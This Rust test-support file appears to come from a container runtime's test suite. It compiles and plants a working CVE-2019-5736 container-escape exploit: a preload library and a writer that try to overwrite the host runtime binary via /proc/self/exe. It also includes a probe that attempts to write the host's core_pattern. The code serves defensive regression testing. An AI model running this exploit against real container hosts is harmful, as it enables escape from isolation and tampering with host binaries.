//! The CVE-2019-5736 attack, built offline with the system's C compiler:
//! a container whose `/bin/sh` is `#!/proc/self/exe` makes the kernel run
//! the host binary that executes it (a runtime, a monitor) once more,
//! inside the container. The container's own loader then preloads the
//! attacker's library into that host binary (`/etc/ld.so.preload`), which
//! opens `/proc/self/exe` and hands it to a writer that tries, once no
//! process runs the binary any more, to write over it.
//!
//! The writer records what happened in `/attack/result`:
//! `wrote PATH`, `refused PATH: REASON` (a sealed copy, or an error other
//! than ETXTBSY) or `busy PATH` (the binary was still running after three
//! seconds: only ETXTBSY kept it safe).

use std::fs;
use std::io;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use tempfile::TempDir;

/// Loaded into the host binary by the container's dynamic loader.
const PRELOAD: &str = r##"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void take_the_binary(void) {
    int fd = open("/proc/self/exe", O_RDONLY);
    if (fd < 0) {
        FILE *f = fopen("/attack/result", "w");
        if (f) { fputs("no exe\n", f); fclose(f); }
        _exit(1);
    }
    char number[16];
    snprintf(number, sizeof number, "%d", fd);
    /* As the container's pid 1 it must live on (as the writer); else it
       leaves, so that whoever waits for it stops running the binary. */
    if (getpid() == 1 || fork() == 0) {
        execl("/attack-bin/writer", "writer", number, (char *)0);
        _exit(1);
    }
    _exit(0);
}
"##;

/// Writes over the binary behind the fd it is given, once it can.
const WRITER: &str = r##"
#define _GNU_SOURCE
#include <errno.h>
#include <stdlib.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char payload[] = "#!/bin/sh\necho the host binary was overwritten from a container\n";

int main(int argc, char **argv) {
    char path[64], target[256] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%s", argc > 1 ? argv[1] : "-1");
    if (readlink(path, target, sizeof target - 1) < 0) strcpy(target, "?");
    /* Nobody must wait for the writer's output. */
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0); dup2(null, 1); dup2(null, 2);
    const char *outcome = "busy";
    int error = ETXTBSY;
    /* A copy sealed against writing is no way to the host's file. */
    int seals = fcntl(atoi(argc > 1 ? argv[1] : "-1"), F_GET_SEALS);
    if (seals >= 0 && (seals & F_SEAL_WRITE)) {
        FILE *f = fopen("/attack/result", "w");
        if (!f) return 1;
        fprintf(f, "refused %s: sealed against writing\n", target);
        fclose(f);
        return 0;
    }
    for (int i = 0; i < 300; i++) {
        int fd = open(path, O_WRONLY | O_TRUNC);
        if (fd >= 0) {
            ssize_t n = write(fd, payload, sizeof payload - 1);
            outcome = n == (ssize_t)(sizeof payload - 1) ? "wrote" : "refused";
            error = n < 0 ? errno : 0;
            break;
        }
        if (errno != ETXTBSY) { outcome = "refused"; error = errno; break; }
        usleep(10000);
    }
    FILE *f = fopen("/attack/result", "w");
    if (!f) return 1;
    if (error) fprintf(f, "%s %s: %s\n", outcome, target, strerror(error));
    else fprintf(f, "%s %s\n", outcome, target);
    fclose(f);
    return 0;
}
"##;

/// The attacker's two programs, compiled.
#[derive(Debug)]
pub struct SelfExeAttack {
    dir: TempDir,
}

impl SelfExeAttack {
    pub fn build() -> SelfExeAttack {
        let dir = tempfile::Builder::new()
            .prefix("keel-attack-")
            .tempdir()
            .expect("a directory for the attack");
        compile_c(
            PRELOAD,
            &dir.path().join("attack.so"),
            &["-shared", "-fPIC"],
        );
        compile_c(WRITER, &dir.path().join("writer"), &["-static", "-O1"]);
        SelfExeAttack { dir }
    }

    /// Turns the root filesystem at `rootfs` into the attacker's: the host
    /// `binaries`' loader and libraries (as the container of a dynamically
    /// linked program would have them), `/bin/sh` as `#!/proc/self/exe`,
    /// the preload, and an empty `/attack` for the result.
    pub fn plant(&self, rootfs: &Path, binaries: &[&Path]) {
        for binary in binaries {
            assert!(
                crate::has_interpreter(&fs::read(binary).unwrap()),
                "{} is static: the attack's loader route needs a dynamic binary",
                binary.display()
            );
            for library in shared_libraries(binary) {
                let inside = rootfs.join(library.strip_prefix("/").unwrap());
                fs::create_dir_all(inside.parent().unwrap()).unwrap();
                fs::copy(&library, &inside).unwrap();
            }
        }
        let bin_sh = rootfs.join("bin/sh");
        let _ = fs::remove_file(&bin_sh);
        fs::write(&bin_sh, "#!/proc/self/exe\n").unwrap();
        fs::set_permissions(&bin_sh, fs::Permissions::from_mode(0o755)).unwrap();
        let programs = rootfs.join("attack-bin");
        fs::create_dir_all(&programs).unwrap();
        for name in ["attack.so", "writer"] {
            fs::copy(self.dir.path().join(name), programs.join(name)).unwrap();
        }
        fs::write(rootfs.join("etc/ld.so.preload"), "/attack-bin/attack.so\n").unwrap();
        fs::create_dir_all(rootfs.join("attack")).unwrap();
    }
}

/// What the writer recorded under `attack_dir` (the container's
/// `/attack`), waiting up to ten seconds for it.
pub fn attack_result(attack_dir: &Path) -> String {
    let path = attack_dir.join("result");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        if let Ok(text) = fs::read_to_string(&path)
            && text.ends_with('\n')
        {
            return text;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the attack left no result in {}",
            path.display()
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// A copy of `binary` (and of its companions named in `with`, from the
/// same directory) in a directory of its own: the binary an attack may
/// overwrite is never the one the build made.
pub fn binaries_copied(binary: &Path, with: &[&str]) -> (TempDir, PathBuf) {
    let dir = tempfile::Builder::new()
        .prefix("keel-victim-")
        .tempdir()
        .expect("a directory for the copies");
    let name = binary.file_name().unwrap();
    fs::copy(binary, dir.path().join(name)).unwrap();
    for other in with {
        fs::copy(binary.with_file_name(other), dir.path().join(other)).unwrap();
    }
    let copy = dir.path().join(name);
    (dir, copy)
}

/// Compiles the C program `source` into `output` with the system's
/// compiler and `flags`.
pub fn compile_c(source: &str, output: &Path, flags: &[&str]) {
    let file = output.with_extension("c");
    fs::write(&file, source).unwrap();
    let out = Command::new("cc")
        .args(flags)
        .arg("-o")
        .arg(output)
        .arg(&file)
        .output()
        .expect("cc runs (install gcc and libc6-dev)");
    assert!(
        out.status.success(),
        "cc {}: {}",
        output.display(),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The libraries and the loader `ldd` finds for `binary`.
fn shared_libraries(binary: &Path) -> Vec<PathBuf> {
    let out = Command::new("ldd").arg(binary).output().expect("ldd runs");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|line| {
            let path = match line.split_once("=>") {
                Some((_, right)) => right.split_whitespace().next(),
                None => line.split_whitespace().next(),
            }?;
            path.starts_with('/').then(|| PathBuf::from(path))
        })
        .collect()
}

/// The SHA-256 of the file at `path`, to tell whether anything wrote it.
pub fn file_digest(path: &Path) -> io::Result<String> {
    Ok(crate::archive::digest(&fs::read(path)?))
}

/// The host's core pattern: a file of /proc that a container must never
/// write, and whose change would show on the host.
pub const CORE_PATTERN: &str = "/proc/sys/kernel/core_pattern";

/// What a container runs against its masks, on a /dev whose null is a
/// symlink to [`CORE_PATTERN`]: what /proc/keys and /proc/timer_list are,
/// then a write to /proc/keys.
pub const MASK_PROBE: &str = "for p in /proc/keys /proc/timer_list; do stat -c '%n %F %t:%T' $p; done; \
     echo keel-escape-test > /proc/keys";

/// Puts the host's core pattern back, when it drops, if an attack changed
/// it.
#[derive(Debug)]
pub struct CorePattern(pub String);

impl CorePattern {
    pub fn save() -> CorePattern {
        CorePattern(fs::read_to_string(CORE_PATTERN).unwrap())
    }

    /// Fails the test unless the [`MASK_PROBE`] run `(code, out, err)`
    /// found both masks to be the null device and left the core pattern
    /// as it was.
    pub fn assert_masks_held(&self, (code, out, err): &(i32, String, String)) {
        assert_eq!(
            fs::read_to_string(CORE_PATTERN).unwrap(),
            self.0,
            "the container wrote the host's core_pattern ({out} {err})"
        );
        assert_eq!(
            out,
            "/proc/keys character special file 1:3\n/proc/timer_list character special file 1:3\n",
            "{err}"
        );
        assert_eq!(*code, 0, "{err}");
    }
}

impl Drop for CorePattern {
    fn drop(&mut self) {
        if fs::read_to_string(CORE_PATTERN).ok().as_deref() != Some(&self.0) {
            let _ = fs::write(CORE_PATTERN, &self.0);
        }
    }
}

/// A host user made for a test (no home, no shell), removed after it.
#[derive(Debug)]
pub struct HostUser(String);

impl HostUser {
    pub fn add() -> HostUser {
        let name = format!("keelt{}", std::process::id());
        let add = || {
            Command::new("useradd")
                .args(["--no-create-home", "--shell", "/bin/false", &name])
                .output()
                .expect("useradd runs (Debian's passwd)")
        };
        let mut out = add();
        // Tests side by side take turns at /etc/passwd's lock.
        for _ in 0..50 {
            if out.status.success() || !String::from_utf8_lossy(&out.stderr).contains("lock") {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
            out = add();
        }
        assert!(
            out.status.success(),
            "useradd: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        HostUser(name)
    }

    /// `program args` as this user, with no supplementary groups: (exit
    /// code, stdout, stderr). A shell runs it: setpriv itself executes its
    /// program with root's capabilities still in effect.
    pub fn run(&self, program: &Path, args: &[&str]) -> (i32, String, String) {
        let out = Command::new("setpriv")
            .args([
                "--reuid",
                &self.0,
                "--regid",
                &self.0,
                "--clear-groups",
                "--",
            ])
            .args(["/bin/sh", "-c", "\"$@\"", "sh"])
            .arg(program)
            .args(args)
            .env("DOCKER_CONFIG", "/nonexistent")
            .stdin(std::process::Stdio::null())
            .output()
            .expect("setpriv runs (Debian's util-linux)");
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }
}

impl Drop for HostUser {
    fn drop(&mut self) {
        let _ = Command::new("userdel").arg(&self.0).output();
    }
}
